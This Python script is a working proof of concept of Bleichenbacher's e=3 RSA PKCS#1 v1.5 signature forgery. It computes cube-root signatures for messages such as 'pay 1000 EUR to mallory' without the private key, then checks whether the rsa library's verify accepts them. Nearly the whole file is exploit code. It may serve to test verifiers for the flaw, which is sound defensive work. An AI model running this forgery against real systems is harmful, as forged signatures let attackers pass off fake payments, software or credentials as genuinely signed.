"""Forge a PKCS#1 v1.5 signature for an e=3 public key without the private key
(Bleichenbacher 2006): the verifier does not check that the padding is all 0xFF."""

import hashlib

import rsa

N = int(
    "b5c3162ec8c45ca03d5281ac3246c50b97e261ea812155ea68af9456f2a3290c5e1d128c5a2109a685ba8ef73af2"
    "197699f66115a96e0ddb3dc19a58233ae0fa68d04edbc42ad3f7863018ecd11ae34f312ba25a59d180abf1096e30"
    "87289f3b648a95c0bb54dd05d34ef332282e4bbd2fd0570359e18b4ad02054b34d20ac953e8e1a0e7051c119c839"
    "8f35b4a91849b418168d9e0358a9929b33349a7a764d6809caeb25ed63cf71c9b2a00dbc0c9896a1680a727f9591"
    "6f90b2089ff00ad21b46b4fde0c21faf745ffe36efddafcc23eba2590654153806a4c6d89757a770d9b36ca7d9c4"
    "7f19d888f5cecfbb794a162dd56bfde2f5167b80cfb7f39dd4b3",
    16,
)
public_key = rsa.PublicKey(N, 3)
k = (N.bit_length() + 7) // 8
SHA256_PREFIX = bytes.fromhex("3031300d060960864801650304020105000420")


def icbrt(n):
    x = 1 << ((n.bit_length() + 2) // 3)
    while True:
        y = (2 * x + n // (x * x)) // 3
        if y >= x:
            return x
        x = y


def forge(message):
    suffix = b"\x00" + SHA256_PREFIX + hashlib.sha256(message).digest()
    target = int.from_bytes(suffix, "big")
    if target % 2 == 0:
        return None
    bits = 8 * len(suffix)
    low = 1  # s^3 = target (mod 2^bits), lifted one bit at a time
    for i in range(1, bits):
        if ((low**3 - target) >> i) & 1:
            low |= 1 << i
    high = icbrt(int.from_bytes(b"\x00\x01" + b"\xff" * (k - 2), "big"))
    high = (high >> bits) << bits  # s^3 just below 00 01 ff ff ...
    s = high | low
    block = (s**3).to_bytes(k, "big")
    middle = block[2 : k - len(suffix)]
    if block[:2] != b"\x00\x01" or 0 in middle or not block.endswith(suffix):
        return None
    return s.to_bytes(k, "big")


nonce = 0
while True:
    message = b"pay 1000 EUR to mallory #%d" % nonce
    signature = forge(message)
    if signature:
        break
    nonce += 1
try:
    rsa.verify(message, signature, public_key)
except rsa.VerificationError:
    print("forged signature rejected")
else:
    print("VULNERABLE: forged signature accepted for", message)
